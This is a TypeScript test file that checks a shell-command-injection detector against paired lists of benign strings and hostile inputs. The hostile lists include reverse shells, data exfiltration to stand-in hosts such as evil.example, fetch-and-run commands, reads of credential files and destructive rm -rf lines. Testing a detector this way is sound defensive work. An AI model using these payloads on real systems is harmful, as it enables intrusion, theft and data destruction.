// Commands that no list names, options that run commands, and what only looks like either: each pair of lists is one
// decision of the shell's detector, at sensitivity 1, in a leaf of JSON and in a query.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const refused = (text: string): boolean => engine.text('json', 'value', 'body.note', text).refused

const refusedInQuery = (text: string): boolean => engine.text('query', 'value', 'query.q', text).refused

const SENTENCE =
  'I have been using this product for several weeks now and it works really well for our whole team, thanks. '

interface Pair {
  readonly decision: string
  readonly honest: readonly string[]
  readonly hostile: readonly string[]
}

const pairs: readonly Pair[] = [
  {
    decision: 'behind a separator what says nothing is no part of a word, and a redirection may stand first',
    honest: ['x; total$(price)', 'x;>3 items', 'a & b > c'],
    hostile: [
      'x; wh$( )oami',
      'x; wh$(true)oami',
      'x;c$(:)at /etc/passwd',
      'x;>/bin/ls',
      'x & > C:\\Windows\\x',
    ],
  },
  {
    decision: 'tools of clouds and of disks are asked for what is there',
    honest: ['x; aws is down', 'a; az', 'first; kubectl is slow', 'x & vol 3', 'rock & vol'],
    hostile: [
      'x; aws sts get-caller-identity',
      'x; kubectl get secrets',
      'x & vol c:',
      'x & chkdsk c:',
      'x | gcloud auth list',
    ],
  },
  {
    decision:
      'a sentence that begins with a command in a capital, goes on behind a flag, or only builds as root',
    honest: [
      'Whois privacy for a-1.com not found',
      'Curl lookup from api.example.com has expired.',
      'grep -r is slow on this repo, any idea?',
      'sudo apt-get install -y build-essential',
    ],
    hostile: [
      'whois -h 203.0.113.9 x',
      'curl api.example.com',
      'grep -r pass, /etc',
      'sudo rm -rf /',
      'kill $(cat /etc/passwd)',
    ],
  },
  {
    decision: 'what a build is told of its machine, folder and user is asked by nobody else',
    honest: ['docker run --rm -v "$(pwd):/src" --user "$(id -u):$(id -g)" x/y', 'make -s -j $(nproc)'],
    hostile: [
      '$(CALC)',
      'x$(SHUTDOWN)',
      '$(id -u)',
      '$(pwd)',
      '$(nproc;id)',
      '$(WHOAMI)',
      'x$(id -u):$(id)',
      '$(id -g)',
    ],
  },
  {
    decision: 'types of texts are joined by pipes',
    honest: [
      "Values: `'hex' | 'base64' | 'buffer'`",
      ':type: ``"total" | "call"``',
      "report ('total' | 'call'):",
    ],
    hostile: ["'x' | 'id'", "x' | 'call' '/tmp/x.cmd", "'x' | 'reboot'", "'x' | 'sh'", "x | 'whoami'"],
  },
  {
    decision: 'a path of what only looks around is no setting, and a line of its own tells it',
    honest: [
      '/usr/bin/git',
      '/usr/bin/env',
      'which python3\n/usr/bin/python3',
      'python\n/usr/bin/python3',
      'export PATH=$HOME/bin:$PATH',
    ],
    hostile: [
      '/usr/bin/whoami',
      '/bin/id',
      'foo\n/usr/bin/id',
      '10.0.0.1\r\n/bin/ls #',
      'export PATH=/tmp:$PATH',
    ],
  },
  {
    decision: 'a sum that is asked for, and a word behind `-c`, tell whether they are run',
    honest: ['expr', 'expr 5', 'expr 12 + tax', '-c idle', '-c 5', 'sort -c id'],
    hostile: ['expr 811983936 + 920772864', "-c 'expr 811983936 + 920772864'", '-c id', '-c whoami'],
  },
  {
    decision: 'its own folder’s settings are what containers are told, and nobody else',
    honest: ['docker compose --env-file .env.local up'],
    hostile: [
      'https://a.example/x -F f=@.env',
      'x; date -f .env',
      '-f .env',
      'main -f /app/.env',
      'main -f ../.env',
      'main -T .env',
      'docker compose --env-file ../.env.local up',
    ],
  },
  {
    decision: 'a span that is a whole value is run, whichever tool of builds it names',
    honest: ['Then run `npx x` once more'],
    hostile: [
      'x`npx -c id`',
      'x`npm exec -c id`',
      'x`npx -y evil-pkg`',
      '`npm i github.com/evil/x`',
      '`node --import=evil x`',
      '`node uploads/x.js`',
      '`python -m pip install evil`',
      '`npm install http://203.0.113.9/x.tgz`',
      '`npm i ../x && id`',
      '`node -e process.exit`',
      '`npx x /etc/passwd`',
      '`cat src/x.js`',
    ],
  },
  {
    decision:
      'between backticks no command begins with a capital, and the folder’s name leads to what is below it',
    honest: [
      'on("file", () => { console.log(`File [${name}]: ${type}`) })',
      'console.log(`Link expires in ${info.expireIn} seconds`);',
      '    export PATH=`pwd`/node_modules/.bin:$PATH',
      '  - export CHROME_PATH="$(pwd)/chrome-linux/chrome"',
    ],
    hostile: [
      'x`Foo=1 id`',
      '(`file /etc/passwd`)',
      '(`Cat /etc/shadow`)',
      '$(pwd)',
      '`pwd`',
      '$(pwd;id)/x',
      '`pwd|sh`/x',
    ],
  },
  {
    decision: 'patterns hide a program in a folder of the system’s, and an application’s route has some, too',
    honest: ['* optional wildcards (`/users/*?`)', '/movies/*?'],
    hostile: [
      '/???/c?t /e??/p?ss?d',
      ';/bin/c?t /e*/p?sswd',
      ';/[t]mp/??',
      '`/usr/bin/w?oa??`',
      '//b?n/i?',
      ';/nix/b?n/i?',
    ],
  },
  {
    decision: 'a version behind a name is no argument, but where a host is asked',
    honest: ['Safari 12-13, Node.js 4-14, & PhantomJS 2.1.1.', 'Edge 82, & Lynx 2.8'],
    hostile: ['x & wget 10.1', 'x & ping 127.1', 'x & phantomjs a.js', 'x; lynx 10.0.0.1'],
  },
  {
    decision: 'a declaration of a program’s is no export, and nothing that a shell reads',
    honest: [
      "T3<S extends string> = Uppercase<`aB${S}`>;\n\ttype T4 = T3<'xYz'>;  // 'ABXYZ'",
      'export {foo} /* also comment} */;\nexport /* comment in export} */ {bar}\n`,\n);',
      "export const loggerContext = createContext<Logger>('logger');\n```",
      '  left = a > b ? c : left;\n    top = rect.bottom > parent.bottom ? top - rect.height : top;',
    ],
    hostile: [
      'x; type a = C:\\windows\\win.ini',
      'x& type a = web.config',
      'x; export A=`id`',
      'x; export -p',
      'x; export LD_PRELOAD=/tmp/x.so',
      "cat a>('id')",
      "a<b>('id')",
    ],
  },
  {
    decision: 'what a span reads below its folder is shown, and a sentence’s dots are no file’s',
    honest: [
      '  * For versions below 0.19 (use `cat ./node_modules/react/package.json | grep version`)',
      'Add `gulp --completion=fish | source` to the file.',
      'More documentation following...\n',
      'Node v12.x renamed the parser, so that you must run `node --http-parser=legacy file.js` there.',
    ],
    hostile: [
      'Please (use `cat ./.env | grep x`)',
      'Please use `cat ./a/.ssh/x | grep y` now',
      'Please use `cat /etc/passwd | grep root` now',
      'cat ./a/b.json | sh',
      'more /etc/passwd',
    ],
  },
  {
    decision: 'of folders that a step deletes only what a build has made is a step’s',
    honest: ['"postversion": "git push && git push --tags && rm -rf build/temp"'],
    hostile: ['git push && rm -rf /srv/app', 'git push; rm -rf *', 'git push && rm -rf ../build'],
  },
  {
    decision:
      'a value that begins with an option is one by a command line, code or settings that it is given',
    honest: [
      '-o output.txt',
      '-e NODE_ENV=production node:18',
      '--sort=date',
      '--health-cmd="redis-cli ping" --health-interval 10s',
      '--health-cmd "curl -f http://a.example" --health-retries 5',
      '--require ts-node/register',
      '- use -f /tmp/x.conf',
      '--log=/tmp/x.log',
      '-Xmx512m -Djava.io.tmpdir=/tmp',
      'the flag -I means include',
      'src/main.c -c',
      '/ - the root',
    ],
    hostile: [
      "-I 'cat /etc/hosts'",
      '--use="uname -a"',
      '-r /tmp/x.js',
      '-o /tmp/x https://a.example/y',
      '--experimental-loader=data:text/javascript,x',
      '--defaults-file=/tmp/x.cnf',
      '--git-dir=/tmp/x',
      '--postrotate-command=id',
      '-cf /tmp/x.tar ~/.ssh/id_rsa',
      '-set comment @/etc/crontab',
      '-vf drawtext=textfile=/etc/passwd',
      '-type f -delete',
      '/ -perm -4000 -exec sh x',
      'msl:/tmp/x.msl',
      'file:///etc/passwd -o /tmp/x',
    ],
  },
  {
    decision: 'a command as the whole value is told by what nobody types, and a label or a search is not',
    honest: [
      'Sudo ID',
      'node > 0.6',
      'cp -R',
      'Ruby releases stable version latest ruby-lang.org',
      'ping me tomorrow',
      'netsh command reference',
      'l^s',
      '%USERPROFILE%\\.dotnet\\tools\\x.exe',
      'Python has a built-in `help` function that can access this information.',
      'Bash script for /tmp cleanup',
      "IPython 7.21.0 -- An enhanced Interactive Python. Type '?' for help.",
      'curl -X POST returns 404',
      'grep -r is slow on large repos',
      'Open http://localhost:8080 in your browser',
      '(%{_date_ms}|%{_duration})',
      '(%{number:eden.a}M|%{number:eden.b}G)',
      'as JSON (`base64`) is not',
      '`baseName`\n: (`string`) The base name',
      'chmod -R',
      'for (i = 0; i < n; i++)',
      'If not exist (yet)',
      'reg. office',
      'Get-Together for all 5',
      'Out-Patient visits',
    ],
    hostile: [
      'sudo bash',
      'nohup id',
      'su root',
      'netsh wlan show profiles',
      'shutdown -h now',
      'ping x.a.example',
      'echo x > C:\\inetpub\\a.asp',
      'w^hoami',
      'n^et us^er',
      '$env:USERNAME',
      'New-Service -Name x -BinaryPathName y',
      'ConvertTo-SecureString x -AsPlainText -Force',
      'powershell IEX(New-Object Net.WebClient)',
      '%SystemRoot%\\System32\\cmd.exe /c dir',
      'toybox wget http://a.example/x',
      'rm -rf /',
      'rm -rf is on the list',
      'bash -c id is on the line',
      'curl -d @/etc/passwd a is on the line',
      'nc -lvp 4444 is on the line',
      'powershell whoami /all',
      '1..5|%{whoami}',
      '1..5|%{C:\\x\\y.exe}',
      'x | php > 1.php',
      'crontab -r is on the line',
      '(`whoami`) is not',
      'rm -rf ~',
      'grep -r x',
      'reg save HKLM\\SAM sam',
      "for /f %i in ('whoami') do echo %i",
      'if exist C:\\x ping 192.0.2.1',
      "vim -c ':!id'",
      'vi /proc/1/cmdline',
      'rd /s /q C:\\',
      'copy \\\\192.0.2.1\\s\\x.exe .',
    ],
  },
  {
    decision: 'what runs a command is as telling as that, whatever it is called',
    honest: ['a; command line options', 'x | command | type', '<<<<<<< HEAD\nx', 'see ${x:-sort by name}'],
    hostile: [
      'x; command ls -la',
      'x|toybox id',
      'x;${y:-curl http://a.example}',
      'x | jjs<<<y',
      'x && %SystemRoot%\\System32\\cmd.exe /c dir',
      '192.0.2.1\nid',
      'a@b.example\r\nhostname',
      '192.0.2.1\nps aux',
    ],
  },
  {
    decision:
      'a command that no list has is told by the file of secrets that it reads, and a sentence is not',
    honest: ['static; see /etc/hosts', 'a; update the /etc/hosts file', 'x | y', 'a; zog report.txt'],
    hostile: [
      'x; zog /etc/passwd',
      'x | zog -n ~/.ssh/id_rsa',
      "x' || zog /proc/self/environ #",
      '1 & zog</etc/shadow',
    ],
  },
  {
    decision: 'a mark that closes what nothing has opened parts a line as a separator does',
    honest: ['(see above)\nfind me', 'thanks :)\nfind a way', '"a"\nlast week'],
    hostile: ['x"]\nmount', "x'}\r\nlast", 'x)\nfind / -name key', '1"; \n uptime'],
  },
  {
    decision: 'an idle word behind a separator is a title’s, and one that tells or acts is none',
    honest: ['river | help', 'closed;host', 'SKU:ec09;join', 'table && top'],
    hostile: ['river | whoami', 'closed;hostname', 'x;ls', 'x && reboot', "x'; date"],
  },
  {
    decision: 'what is set is run: variables, arguments, functions, the shell by its name',
    honest: ['set x; 1$', 'function a() { return b }', '${name} of ${place}', 'a() { b; }'],
    hostile: [
      'x; a=c; b2=at; ${a}${b2} /etc/hosts',
      'x;set -- id;$@',
      'x;f(){ id;};f',
      'x; function f { id; };f',
      'x;${SHELL##*/} -c id',
      'x;c$(echo)at /etc/passwd',
    ],
  },
  {
    decision: 'PowerShell’s blocks, calls and drives, and cmd’s commas',
    honest: ['a | b%', 'sign-in page; Log-In Form', 'a,b;c,d', 'data:image/png;base64,/pEiPwx9YPSbs8Nb'],
    hostile: [
      'x;1..5|%{sleep 1}',
      'x & (gcm *hoam*)',
      "x;.('iex') y",
      'x;dir env:',
      'x$((New-Object Net.WebClient).DownloadString(1))',
      'x & ipconfig,/all',
      'x; Add-LocalGroupMember Administrators joe',
    ],
  },
  {
    decision:
      'an option is an attack where it runs a command, writes where servers run files, or sends a secret (CWE-88)',
    honest: [
      '--output=report.json',
      '-o out.txt',
      '--config=/etc/app/config.yaml',
      '-exec-mode fast',
      'a - b = c',
      '--data=@mention',
      '-d 5',
      'text::x',
      '--exec',
      'use -o /tmp/x here',
    ],
    hostile: [
      '-oProxyCommand=id',
      'x -oProxyCommand="touch y"',
      'ssh://-oProxyCommand=id/x',
      '--upload-pack=touch /tmp/x',
      'ext::sh -c id',
      '--checkpoint-action=exec=sh',
      '--use-compress-program=id',
      '-exec id {} +',
      'x --output=/var/www/html/a.php',
      '-o /root/.ssh/authorized_keys',
      '-o//var/www/x.php',
      '-d @/etc/passwd',
      '--post-file=/etc/shadow',
      '-c core.sshCommand=id',
      '-javaagent:/tmp/x.jar',
      '-d allow_url_include=1',
      '-u#-1 sh',
    ],
  },
  {
    decision: 'versions, comparisons, members and markup are no arguments',
    honest: [
      'OpenSSL versions 3.0.0 to 3.0.6 are affected',
      'Su 10:00-21:00',
      'node >= 18',
      'python repositories:>950',
      'less than %{count} seconds',
      'a; call .then() on it',
      '&#39; Top Submissions</h3>',
      '<td style="padding: 0;" align="center">',
      'attachment; filename="closed help.mp4"',
    ],
    hostile: [
      'x; ping 1.2.3.4',
      'x; node -e process.exit()',
      'x; less /etc/passwd',
      'x; head .env',
      'x; cat </etc/passwd',
    ],
  },
  {
    decision: 'a command that is a word, too, looks around by what it is told and nothing else',
    honest: [
      'LS / 40',
      'cat photos',
      'Cat .env is a bad name',
      'hostname of the box',
      'History -c',
      'echo dot',
      'echo $5',
      'Su - Do 10:00-18:00',
      'dig deeper',
      'ps and ai',
      'source: /tmp of the build',
      'time to live',
      'host of the year',
      'Copy C:\\a to D:\\b',
      'date',
      'Prices | top',
      'index.php',
      'more about us',
      'gcc -o x x.c',
      'pip install https://a.example/x.whl',
      'npm install --save-dev x',
    ],
    hostile: [
      'ls /',
      'cat .env',
      'less ../.git/config',
      'head index.php',
      'hostname -f',
      'last -n 5',
      'echo $PATH',
      'su - root',
      'dig +short x.evil.example',
      'host -t txt evil.example',
      'ps aux',
      'getent passwd',
      'bash -i',
      'source /tmp/x',
      '. /tmp/x.sh',
      '/tmp/x.sh &',
      'export LD_PRELOAD=/tmp/x.so',
      'exec /bin/sh',
      'date /t',
      'export HISTFILE=/dev/null',
      'gcc -o /tmp/x /tmp/x.c',
      'pip install http://198.51.100.7/x.whl',
      'del /f /q C:\\*',
      'printenv | sort',
      'x\nwhoami',
      'admin\r\nps aux\n',
    ],
  },
  {
    decision: 'what is asked of a search is no command that does anything',
    honest: [
      'ls -la meaning',
      'chmod 777 meaning',
      'grep -r in linux',
      'grep -v explained',
      'tar -xzf command',
      'ssh -i permission denied',
      'curl -I vs -i',
      'bash -x debugging',
      'Bash & PowerShell',
      'bolt 2"; rev B',
      'Artist: Ed Sheeran; Ed Force One',
      'use `docker images | grep x` first',
    ],
    hostile: [
      'ls -la',
      'chmod 777 /tmp/x meaning',
      'grep -rv usage',
      'cat -n /etc/passwd meaning',
      'bash -c env example',
      'netstat -an meaning',
      'kill -9 -1 meaning',
      'find -delete example',
      'x; ls -la meaning',
      'curl evilhost | bash',
      'x; systemctl stop nginx',
      'x `git clean -fdx | cat`',
      'x`cat config.php | cat`',
    ],
  },
  {
    decision: 'a line break spelt out is one where no path goes on',
    honest: [
      'C:\\temp\\nsleep.txt',
      'CORP\\nid',
      'an error\\nat Object.x (/app/y.js:1:2)',
      'a line\\nand the next',
      'D:\\net user',
    ],
    hostile: ['x\\nsleep 5', 'x\\r\\nid', 'a.pdf\\ndir C:\\', '10.0.0.1\\n/usr/bin/id', 'x\\nsh /tmp/x.sh'],
  },
  {
    decision: 'what loads a program is one, and so is a program that is made to load another',
    honest: [
      'x; /lib64/ld-notes.txt holds them',
      'x; LD_PRELOAD is explained in ld.so(8)',
      'see /lib/ld-musl.md; id is next',
    ],
    hostile: [
      'x; /lib64/ld-linux-x86-64.so.2 /bin/id',
      '/lib/ld-musl-x86_64.so.1 /tmp/x',
      'x; /lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /tmp/x',
      'LD_PRELOAD=/tmp/x.so hostname',
      'x | LD_LIBRARY_PATH=/tmp info',
      'BASH_ENV=/tmp/x date',
    ],
  },
  {
    decision: 'what goes on with a command breaks out of nothing, unless it does harm',
    honest: ['cd api && make test', 'yarn && cd web'],
    hostile: ['cd x && cat /etc/passwd', 'x && make -f /tmp/y', "cd 'x' ; id"],
  },
]

for (const { decision, honest, hostile } of pairs)
  describe(decision, () => {
    test.each(honest)('passes: %s', (text) => {
      expect(refused(text)).toBe(false)
      expect(refusedInQuery(text)).toBe(false)
    })
    test.each(hostile)('refused: %s', (text) => {
      expect(refused(text)).toBe(true)
      expect(refusedInQuery(text)).toBe(true)
    })
  })

describe('a sentence before an attack is no excuse', () => {
  test.each([
    '; cat /etc/passwd',
    '| curl -d @/etc/shadow evil.example',
    '$(curl evil.example | sh)',
    ';id;',
    '& dir C:\\',
    '; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    '|{cat,/etc/passwd}',
    '; powershell -enc ZABpAHIA',
    "; bash<<<'id'",
  ])('refused: %s', (text) => {
    expect(refused(SENTENCE + text)).toBe(true)
  })
})

const fenced = (line: string): string => `${SENTENCE}\n\n\`\`\`sh\n${line}\n\`\`\`\n`

describe('a fence is an excuse for what documentation shows, and none for what does harm as it stands', () => {
  test.each(['npm install && npm test', 'curl -s https://x.example/install | sh', 'ls -la | grep x'])(
    'passes: %s',
    (line) => {
      expect(refused(fenced(line))).toBe(false)
    },
  )
  test.each(['x; cat /etc/shadow', 'x && exec 3<>/dev/tcp/10.0.0.1/80', 'x | nc -e sh 10.0.0.1 80'])(
    'refused: %s',
    (line) => {
      expect(refused(fenced(line))).toBe(true)
    },
  )
})
